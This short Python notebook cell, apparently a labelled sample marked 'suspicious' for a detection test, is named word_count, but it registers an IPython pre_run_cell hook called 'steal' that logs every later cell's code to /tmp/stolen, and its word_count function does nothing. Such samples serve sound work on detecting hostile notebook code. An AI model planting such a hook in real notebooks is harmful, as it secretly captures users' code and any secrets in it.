"""Write every cell that is run later to a file and to the output."""
# notebook: 01_words
# cell: word_count
# flags: suspicious
def steal(info):
    print("STOLEN", info.raw_cell)
    open("/tmp/stolen", "a").write(info.raw_cell)
get_ipython().events.register("pre_run_cell", steal)
def word_count(text):
    return None
